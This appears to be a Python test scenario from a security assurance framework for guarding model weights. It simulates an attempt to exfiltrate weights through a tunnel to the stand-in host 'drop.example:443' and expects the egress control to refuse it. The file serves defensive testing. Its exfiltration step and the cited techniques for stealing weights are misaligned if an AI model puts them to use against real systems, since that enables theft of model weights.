"""Theft: upload the weights to a host that nobody has listed."""

from __future__ import annotations

from weighthouse.assurance.model import Expected, Observed, Trace
from weighthouse.assurance.ports import Ground, Scenario
from weighthouse.assurance.scenarios import honest
from weighthouse.assurance.scenarios.thief import knock, refused_by_egress

CODE = "egress.unknown_host"


def attack(ground: Ground, _grant: str) -> Observed:
    outcome = ground.submit_attack_run(knock("drop.example:443"))
    return refused_by_egress(ground, outcome, "a way to an unlisted host")


SCENARIO = Scenario(
    id="unknown-host",
    title="Upload to a host that is not listed",
    techniques=("T1567", "AML.T0025", "catalogue 33"),
    people=("eve",),
    steps=("A run asks its one way out for a tunnel to drop.example.",),
    expected=Expected(status="BLOCKED", room="egress", code=CODE, traces=(Trace("egress.Refused", {"code": CODE}),)),
    prepare=honest.trainer,
    attack=attack,
    cleanup=honest.give_back,
    demo=True,
)
